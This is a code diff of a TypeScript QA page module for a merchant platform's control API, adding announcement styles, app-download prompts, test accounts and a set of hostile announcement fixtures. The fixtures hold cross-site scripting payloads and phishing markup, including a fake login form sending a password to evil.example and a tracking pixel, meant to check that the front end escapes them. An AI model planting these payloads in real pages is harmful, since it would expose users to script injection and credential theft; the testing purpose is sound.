@@ -1,12 +1,126 @@
 /** The QA page, a form for the control API. Its styles and script are files beside it. */
 import { endpoints } from '@livery/contract/endpoints.ts'
 import { platformFlags } from '@livery/contract/flags.ts'
+import type { Announcement } from '@livery/contract/platform/content.ts'
+import type { PromptSettings } from '@livery/contract/platform/download.ts'
+import type { AnnouncementOptions } from '@livery/contract/platform/site-options.ts'
 import { escapeHtml } from '@livery/contract/text/html.ts'
-import { accountNotes } from './account-notes.ts'
-import { announcementLooks } from './announcement-looks.ts'
-import { appPrompts } from './app-prompts.ts'
 import { installForm } from './install-form.ts'
 import { changes, situations } from './situations.ts'
+
+type AnnouncementLook = {
+  label: string
+  patch: {
+    settings?: { announcementOptions: AnnouncementOptions }
+    content?: { announcements: Announcement[] }
+  }
+}
+
+/** All options that some look switches; each look starts from these. */
+const usual: AnnouncementOptions = {
+  style: 'carousel',
+  closeButton: 'inside',
+  hideToday: true,
+  neverShowAgain: true,
+  forceRead: false,
+}
+
+/** Each would say so in an alert of the browser, or on the page, if it ran. */
+const attacks: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src="x" onerror="alert(1)">',
+  '<svg onload="alert(1)"><circle r="4"></circle></svg>',
+  '<a href="javascript:alert(1)">Claim your bonus</a>',
+  '<iframe src="javascript:parent.alert(1)"></iframe>',
+  '<form action="https://evil.example"><input name="password"><button>Log in again</button></form>',
+  '<p style="position:fixed;inset:0;background:red">The site has moved</p>',
+  '<a href="//evil.example/m/login">Log in here</a>',
+  '<img src="https://evil.example/pixel.gif?who" alt="">',
+]
+
+const hostile = ['A', 'B'].flatMap(execution =>
+  attacks.map(
+    (attack, at): Announcement => ({
+      id: `hostile-${execution}-${at}`,
+      title: `Prize ${at + 1} <b onclick="alert(1)">for you</b>`,
+      content: `<p>You have won.</p>${attack}`,
+      promotionType: at === 0 ? '"><script>alert(1)</script>' : '',
+      execution,
+    }),
+  ),
+)
+
+/** The forms of the announcements; a button of the QA page applies each to the merchant. */
+export const announcementLooks: readonly AnnouncementLook[] = [
+  look('Announcement carousel', {}),
+  look('Classic announcement', { style: 'classic' }),
+  look('No announcement popup', { style: 'none' }),
+  look('Close outside', { closeButton: 'outside' }),
+  look('No close button', { closeButton: 'none' }),
+  look('No checkbox', { hideToday: false, neverShowAgain: false }),
+  look('Force read', { forceRead: true }),
+  { label: 'Hostile announcements', patch: { content: { announcements: hostile } } },
+  { label: 'No announcements', patch: { content: { announcements: [] } } },
+]
+
+type AppPrompt = { label: string; settings: PromptSettings }
+
+const on = (value = '') => ({ enabled: true, value })
+
+const off = { enabled: false, value: '' }
+
+/** All settings that some prompt switches on; each prompt starts with all of them off. */
+const none: PromptSettings = {
+  download_condition_switch: off,
+  bottom_app_bar_mode: off,
+  deposit_least_times: off,
+  deposit_least_times_forced: off,
+  first_deposit: off,
+}
+
+/** The forms of the app prompt; a button of the QA page applies each to the merchant. */
+export const appPrompts: readonly AppPrompt[] = [
+  {
+    label: 'Prompt over the whole screen',
+    settings: { ...none, download_condition_switch: on(), deposit_least_times: on('0') },
+  },
+  {
+    label: 'Prompt from the bottom',
+    settings: {
+      ...none,
+      download_condition_switch: on(),
+      bottom_app_bar_mode: on(),
+      deposit_least_times: on('0'),
+    },
+  },
+  {
+    label: 'Prompt that cannot be closed',
+    settings: { ...none, download_condition_switch: on(), deposit_least_times_forced: on('0') },
+  },
+  {
+    label: 'Prompt after the first deposit',
+    settings: { ...none, download_condition_switch: on(), first_deposit: on() },
+  },
+  { label: 'No prompt', settings: none },
+]
+
+/** The accounts of contract §4 with the situation each of them produces. */
+export const accountNotes: readonly [userName: string, about: string][] = [
+  ['member1', 'a plain member'],
+  ['agent1', 'agent, type 1'],
+  ['agent2', 'agent, type 2'],
+  ['nochat', 'type 4: no chat, no language sync'],
+  ['vip7', 'club label Diamond, rank 7'],
+  ['first', 'first login: has to change the password'],
+  ['expired', 'expired password (flag PWDEXPFORCECHANGE3)'],
+  ['default', 'default password 123456'],
+  ['tfa-all', 'second step: name, SMS, app or mail'],
+  ['tfa-email', 'second step by mail only'],
+  ['tfa-sms', 'second step by SMS only'],
+  ['tfa-ga', 'second step by authenticator only'],
+  ['tfa-name', 'second step by name only'],
+  ['moved', 'token_ip_different at every login'],
+]
 
 const calls = Object.values(endpoints).map(
   ({ method, path }) => `<option value="${method} ${path}"></option>`,
@@ -105,3 +219,7 @@ export const qaPage = `<!doctype html>
 <div class="row"><label class="check"><input name="reset" type="checkbox"><span>Cut the connection</span></label><label class="check"><input name="only" type="checkbox" checked><span>Only this merchant</span></label></div><button>Add</button></form><ul id="faults"></ul></section>
 <section class="wide"><h2>Requests</h2><label>Filter <input id="filter" placeholder="path contains…"></label><div class="scroll"><table><thead><tr><th>Time</th><th>Call</th><th>Status</th><th>Details</th></tr></thead><tbody id="requests"></tbody></table></div></section>
 </main><script src="/sandbox/qa.js" defer></script></body></html>`
+
+function look(label: string, options: AnnouncementOptions): AnnouncementLook {
+  return { label, patch: { settings: { announcementOptions: { ...usual, ...options } } } }
+}
